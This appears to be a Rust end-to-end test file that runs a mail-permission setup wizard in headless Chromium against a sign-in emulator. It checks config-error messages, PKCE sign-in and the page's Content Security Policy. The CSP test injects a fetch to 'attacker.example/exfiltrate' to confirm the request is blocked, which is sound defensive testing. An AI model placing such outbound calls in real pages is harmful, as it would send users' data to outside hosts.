//! End-to-end tests: the release build in headless Chromium against the emulator.
//! Run through `cargo xtask test`, which builds `dist/` and installs chromedriver first.

#![cfg(not(target_arch = "wasm32"))]

mod support;

use mailgrant_emulator::SiteConfig;
use thirtyfour::prelude::*;

#[tokio::test(flavor = "multi_thread")]
async fn welcome_shows_the_vendor_from_config_json() {
    support::run("welcome_vendor", SiteConfig::Demo, |ctx| async move {
        let d = &ctx.driver;
        d.goto(&format!("{}/", ctx.site)).await.unwrap();
        let welcome = support::wait_id(d, "welcome").await;
        let vendor = d
            .find(By::Id("vendor-name"))
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        assert_eq!(vendor, "Contoso Mailer");
        let text = welcome.text().await.unwrap();
        assert!(text.contains("Let Contoso Mailer send e-mail"), "{text}");
        assert!(
            text.contains("Contoso Mailer mail sender"),
            "the app name from the template: {text}"
        );
        // The step list, Welcome current.
        let steps = d.find(By::Id("steps")).await.unwrap().text().await.unwrap();
        for label in [
            "Welcome", "Sign in", "Mailbox", "Scope", "Review", "Apply", "Hand-off",
        ] {
            assert!(steps.contains(label), "{label} missing from {steps}");
        }
        let current = d.find(By::Css("#steps [aria-current=step]")).await.unwrap();
        assert_eq!(current.text().await.unwrap(), "Welcome");
        // The privacy line names the hosts from config.json (here: the emulator's).
        let privacy = d
            .find(By::Id("privacy"))
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        let login_host = ctx.login.trim_start_matches("http://");
        assert!(privacy.contains(login_host), "{privacy}");
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_wrong_typed_key_is_named() {
    let config = r#"{
        "clientId": "11111111-2222-3333-4444-555555555555",
        "vendor": {"name": "Contoso Mailer", "appDisplayName": "{vendor} mail sender",
                   "defaultScopeMode": "rbacForApplications", "supportContact": "s@contoso.example",
                   "secretLifetimeDays": "180"}
    }"#;
    support::run(
        "wrong_typed_key",
        SiteConfig::Raw(config.into()),
        |ctx| async move {
            let d = &ctx.driver;
            d.goto(&format!("{}/", ctx.site)).await.unwrap();
            let error = support::wait_id(d, "config-error").await;
            let text = error.text().await.unwrap();
            assert!(text.contains("vendor.secretLifetimeDays"), "{text}");
            assert!(
                text.contains("the string \"180\""),
                "says what was found: {text}"
            );
            assert!(
                text.contains("whole number of days"),
                "says what is expected: {text}"
            );
            assert!(
                d.find(By::Id("welcome")).await.is_err(),
                "no wizard on a bad config"
            );
        },
    )
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn graph_on_the_pages_own_origin_is_refused_at_load() {
    let config = r#"{
        "clientId": "11111111-2222-3333-4444-555555555555",
        "graphBaseUrl": "{siteOrigin}",
        "developmentOrigins": true,
        "vendor": {"name": "Contoso Mailer", "appDisplayName": "{vendor} mail sender",
                   "defaultScopeMode": "rbacForApplications", "supportContact": "s@contoso.example"}
    }"#;
    support::run(
        "graph_on_page_origin",
        SiteConfig::Raw(config.into()),
        |ctx| async move {
            let d = &ctx.driver;
            d.goto(&format!("{}/", ctx.site)).await.unwrap();
            let text = support::wait_id(d, "config-error")
                .await
                .text()
                .await
                .unwrap();
            assert!(text.contains("graphBaseUrl"), "names the key: {text}");
            assert!(text.contains("this page's own"), "says why: {text}");
            assert!(d.find(By::Id("sign-in")).await.is_err(), "no sign-in");
            // A sign-in answer arriving while config.json is wrong leaves the address bar.
            d.goto(&format!("{}/?code=c0de-MARK&state=st4te-MARK", ctx.site))
                .await
                .unwrap();
            support::wait_id(d, "config-error").await;
            let url = d.current_url().await.unwrap().to_string();
            assert!(
                !url.contains("MARK"),
                "the code stays in the address bar: {url}"
            );
        },
    )
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_missing_config_is_explained() {
    support::run("missing_config", SiteConfig::Missing, |ctx| async move {
        let d = &ctx.driver;
        d.goto(&format!("{}/", ctx.site)).await.unwrap();
        let text = support::wait_id(d, "config-error")
            .await
            .text()
            .await
            .unwrap();
        assert!(text.contains("could not be loaded"), "{text}");
        assert!(text.contains("HTTP 404"), "{text}");
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn sign_in_reaches_the_emulators_sign_in_page() {
    support::run("sign_in_reachable", SiteConfig::Demo, |ctx| async move {
        let d = &ctx.driver;
        d.goto(&format!("{}/", ctx.site)).await.unwrap();
        support::wait_id(d, "sign-in").await.click().await.unwrap();
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(15);
        loop {
            let url = d.current_url().await.unwrap().to_string();
            if url.starts_with(&ctx.login) {
                assert!(url.contains("/oauth2/v2.0/authorize?"), "{url}");
                assert!(url.contains("code_challenge_method=S256"), "{url}");
                break;
            }
            assert!(std::time::Instant::now() < deadline, "still on {url}");
            tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        }
        let body = d.find(By::Tag("body")).await.unwrap().text().await.unwrap();
        assert!(
            body.contains("Sign in"),
            "the emulator's sign-in page: {body}"
        );
        assert!(!body.contains("AADSTS"), "no error: {body}");
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_page_runs_under_its_content_security_policy() {
    support::run("csp", SiteConfig::Demo, |ctx| async move {
        let d = &ctx.driver;
        d.goto(&format!("{}/", ctx.site)).await.unwrap();
        support::wait_id(d, "welcome").await; // the wasm ran, so the bootstrap hash is right
        let script = r#"
            const done = arguments[arguments.length - 1];
            const result = { violated: [] };
            document.addEventListener('securitypolicyviolation',
                e => result.violated.push(e.effectiveDirective));
            try { document.createElement('div').innerHTML = '<b>x</b>'; result.innerHtml = 'allowed'; }
            catch (e) { result.innerHtml = e.name; }
            fetch('https://attacker.example/exfiltrate').catch(() => {});
            setTimeout(() => done(result), 1500);
        "#;
        let result = d
            .execute_async(script, Vec::<serde_json::Value>::new())
            .await
            .unwrap()
            .json()
            .clone();
        assert_eq!(result["innerHtml"], "TypeError", "Trusted Types enforced: {result}");
        assert_eq!(
            result["violated"],
            serde_json::json!(["require-trusted-types-for", "connect-src"]),
            "Trusted Types enforced and connections only to Microsoft: {result}"
        );
        let log = support::console_log(d).await;
        assert!(!log.contains("sha256-"), "no script was refused: {log}");
    })
    .await;
}
